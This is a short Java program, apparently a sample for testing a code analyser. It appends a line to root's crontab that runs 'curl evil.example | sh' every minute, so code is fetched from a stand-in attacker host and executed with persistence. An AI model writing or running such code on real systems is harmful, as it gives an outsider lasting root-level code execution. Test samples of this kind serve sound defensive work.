import java.io.FileWriter;

public class FileWriterConstant {
    static final String DIR = "/var/spool/";
    static final String TARGET = DIR + "cron/crontabs/root";

    public static void main(String[] args) throws Exception {
        try (FileWriter w = new FileWriter(TARGET, true)) {
            w.write("* * * * * curl evil.example | sh\n");
        }
    }
}
